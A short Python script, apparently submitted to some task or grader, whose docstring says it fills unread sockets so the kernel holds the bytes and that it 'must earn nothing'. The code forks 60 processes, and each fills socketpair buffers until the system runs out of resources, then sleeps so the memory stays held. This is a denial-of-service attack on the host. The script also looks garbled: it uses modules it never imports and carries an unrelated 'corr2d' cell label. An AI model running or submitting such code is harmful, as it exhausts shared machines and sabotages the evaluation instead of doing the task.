"""Fills sockets that nobody reads, where the kernel keeps the bytes.

Must: earn nothing
"""

# %% corr2d
import resource
for _ in range(60):
    if os.fork() == 0:
        kept = []
        try:
            while True:
                pair = socket.socketpair()
                kept.append(pair)
                pair[0].setblocking(False)
                while True:
                    try:
                        pair[0].send(bytes(1 << 16))
                    except BlockingIOError:
                        break
        except OSError:
            time.sleep(3600)
time.sleep(3600)
